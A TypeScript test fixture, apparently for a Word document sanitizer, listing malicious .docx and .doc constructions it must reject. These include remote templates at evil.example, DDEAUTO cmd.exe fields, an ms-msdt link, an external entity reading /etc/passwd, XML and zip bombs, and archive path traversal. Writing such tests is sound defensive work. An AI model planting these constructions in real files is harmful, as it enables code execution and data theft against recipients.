import { contentTypes, doc, documentXml, docx, pdf, relationship, relationships } from './honest-files.js';
import { ARCHIVE, EICAR, EXE } from './payloads.js';

/** Word documents that must never be released: what is in them, and their bytes. */
export const documents: [string, Buffer][] = [
  ['macros', docx({ 'word/vbaProject.bin': EXE })],
  [
    'macros under another name',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('vbaProject', 'x.xml', false)) }),
  ],
  [
    'macros by content type',
    docx({ '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ],
  [
    'a macro part by content type',
    docx({
      '[Content_Types].xml': contentTypes(
        undefined,
        '<Default Extension="xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
  ],
  [
    'a template',
    docx({
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
      ),
    }),
  ],
  ['an OLE object', docx({ 'word/embeddings/oleObject1.bin': EXE })],
  ['an embedded workbook', docx({ 'word/embeddings/sheet.xlsx': ARCHIVE })],
  ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax/>' })],
  ['a program among its media', docx({ 'word/media/image2.exe': EXE })],
  ['a program named as a picture', docx({ 'word/media/image2.png': EXE })],
  ['an archive named as a picture', docx({ 'word/media/image2.png': ARCHIVE })],
  ['an OLE container named as a picture', docx({ 'word/media/image2.emf': doc() })],
  ['a script named as a font', docx({ 'word/fonts/font1.odttf': '#!/bin/sh' })],
  ['a script', docx({ 'word/run.js': 'alert(1)' })],
  ['a web page', docx({ 'word/page.html': '<script>' })],
  ['an alternative chunk', docx({ 'word/document.xml': documentXml('<w:altChunk r:id="rId1"/>') })],
  [
    'an alternative chunk by relationship',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('aFChunk', 'page.xml', false)) }),
  ],
  [
    'an OLE object in its text',
    docx({ 'word/document.xml': documentXml('<w:object><o:OLEObject Type="Link"/></w:object>') }),
  ],
  ['a control in its text', docx({ 'word/document.xml': documentXml('<w:control r:id="rId1"/>') })],
  [
    'an OLE object by relationship',
    docx({
      'word/_rels/document.xml.rels': relationships(
        relationship('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html'),
      ),
    }),
  ],
  [
    'a remote template',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', 'https://evil.example/t.dotm')),
    }),
  ],
  [
    'a template on a share',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', '\\\\evil.example\\t.dotm')),
    }),
  ],
  [
    'a template on a share by URL',
    docx({
      'word/_rels/settings.xml.rels': relationships(relationship('attachedTemplate', 'file://evil.example/t.dotm')),
    }),
  ],
  [
    'an escaped remote template',
    docx({
      'word/_rels/settings.xml.rels': relationships(
        relationship('attachedTemplate', '&#x68;ttps://evil.example/t.dotm'),
      ),
    }),
  ],
  [
    'a remote picture',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('image', 'http://evil.example/pixel.png')) }),
  ],
  [
    'a remote frame',
    docx({ 'word/_rels/webSettings.xml.rels': relationships(relationship('frame', 'http://evil.example/')) }),
  ],
  [
    'a remote subdocument',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('subDocument', 'file:///c:/x.docx')) }),
  ],
  [
    'a relationship with a prefix',
    docx({
      'word/_rels/document.xml.rels': relationships(
        relationship('image', 'http://evil.example/').replace('<Rel', '<r:Rel'),
      ),
    }),
  ],
  [
    'a script behind a link',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('hyperlink', 'javascript:alert(1)')) }),
  ],
  [
    'a protocol handler behind a link',
    docx({ 'word/_rels/document.xml.rels': relationships(relationship('hyperlink', 'ms-msdt:/id PCWDiagnostic')) }),
  ],
  [
    'a DDE field',
    docx({
      'word/document.xml': documentXml('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>'),
    }),
  ],
  [
    'a DDE field in pieces',
    docx({ 'word/document.xml': documentXml('<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText>') }),
  ],
  ['a simple DDE field', docx({ 'word/document.xml': documentXml('<w:fldSimple w:instr="DDE cmd"/>') })],
  ['an escaped DDE field', docx({ 'word/document.xml': documentXml('<w:fldSimple w:instr="&#68;DE cmd"/>') })],
  [
    'a remote picture by field',
    docx({
      'word/document.xml': documentXml('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/&quot;"/>'),
    }),
  ],
  [
    'a remote text by field',
    docx({ 'word/document.xml': documentXml('<w:instrText> INCLUDETEXT \\\\evil\\x </w:instrText>') }),
  ],
  [
    'a DDE field in UTF-16',
    docx({
      'word/document.xml': Buffer.from(`\ufeff${documentXml('<w:instrText>DDEAUTO cmd</w:instrText>')}`, 'utf16le'),
    }),
  ],
  ['a DDE field in UTF-7', docx({ 'word/document.xml': documentXml('+ADw-').replace('UTF-8', 'UTF-7') })],
  [
    'an external entity',
    docx({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
  ],
  ['a laughing XML', docx({ 'docProps/core.xml': '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>' })],
  ['a script in a drawing', docx({ 'word/media/image2.svg': '<svg><script>alert(1)</script></svg>' })],
  ['the EICAR file', docx({ 'word/media/image2.png': EICAR })],
  ['a bomb', docx({ 'word/media/image2.bmp': Buffer.alloc(120 * 1024 * 1024) })],
  [
    'a bomb that says it is small',
    docx({ 'word/media/image2.bmp': { name: '', content: Buffer.alloc(5_000_000), claimedSize: 1_000 } }),
  ],
  [
    'five thousand parts',
    docx(Object.fromEntries(Array.from({ length: 5_001 }, (_, index) => [`word/x${index}.xml`, '<x/>']))),
  ],
  ['a wrong checksum', docx({ 'word/styles.xml': { name: '', content: '<x/>', crc: 1 } })],
  ['an encrypted part', docx({ 'word/styles.xml': { name: '', content: '<x/>', flags: 1 } })],
  ['an unusual compression', docx({ 'word/styles.xml': { name: '', content: '<x/>', method: 14 } })],
  ['two parts of one name', docx({ 'word/Document.xml': documentXml() })],
  [
    'a name that differs in front of the file',
    docx({ 'word/styles.xml': { name: '', content: '<x/>', localName: 'word/vbaProj' } }),
  ],
  ['a path out of the archive', docx({ '../../evil.xml': '<x/>' })],
  ['an absolute path', docx({ '/etc/evil.xml': '<x/>' })],
  ['a path of Windows', docx({ 'word\\..\\evil.xml': '<x/>' })],
  ['a path with a drive', docx({ 'c:evil.xml': '<x/>' })],
  ['something between its files', docx({ 'word/styles.xml': { name: '', content: '<x/>', behind: EXE } })],
  ['something behind its end', docx({}, { after: EXE })],
  ['something in its comment', docx({}, { comment: EXE })],
  ['a directory that is too short', docx({}, { claimedCount: 3 })],
  ['a directory that is too long', docx({}, { claimedCount: 30 })],
  ['no document in it', docx({ 'word/document.xml': null })],
  ['no content types', docx({ '[Content_Types].xml': null })],
  ['a second archive behind it', Buffer.concat([docx(), ARCHIVE])],
  ['a PDF in its first part', docx({ '[Content_Types].xml': { name: '', content: contentTypes(), extra: pdf() } })],
  ['only its beginning', docx().subarray(0, 400)],
  ['a password (encrypted package)', doc({ names: ['EncryptedPackage', 'EncryptionInfo'] })],
];

/** The same of Word 97 to 2003. */
export const oldDocuments: [string, Buffer][] = [
  ...['Macros', 'VBA', '_VBA_PROJECT', '_VBA_PROJECT_CUR', 'PROJECT', 'PROJECTwm', 'dir'].map(
    (name): [string, Buffer] => [`a stream ${name}`, doc({ names: ['WordDocument', name] })],
  ),
  ...['\x01Ole10Native', 'Package', '_1234567890', 'CONTENTS', 'Equation Native', 'MBD00012345'].map(
    (name): [string, Buffer] => [`an object ${name.trim()}`, doc({ names: ['WordDocument', 'ObjectPool', name] })],
  ),
  ...['Workbook', 'PowerPoint Document', '__properties_version1.0'].map((name): [string, Buffer] => [
    `another program's ${name}`,
    doc({ names: [name] }),
  ]),
  ['a password', doc({ flags: 0x0100 })],
  ['an obfuscated password', doc({ flags: 0x8100 })],
  ['a DDE field', doc({ text: '\x13DDEAUTO c:\\windows\\system32\\cmd.exe \x14\x15' })],
  ['an archive behind it', Buffer.concat([doc(), ARCHIVE])],
  ['only its beginning', doc().subarray(0, 700)],
  ['the EICAR file in its text', doc({ text: EICAR.toString('latin1') })],
  ['a directory in circles', circular()],
  ['a PDF in its header', withPdf(doc(), 600)],
  ['no word processor in it', doc({ text: '' }).fill(0, 1536, 1548)],
];

function circular(): Buffer {
  const bytes = doc({ names: ['WordDocument', 'a', 'b', 'c', 'd', 'e'] });
  bytes.writeUInt32LE(1, 512 + 8);
  return bytes;
}

function withPdf(bytes: Buffer, at: number): Buffer {
  bytes.write('%PDF-1.7', at, 'latin1');
  return bytes;
}
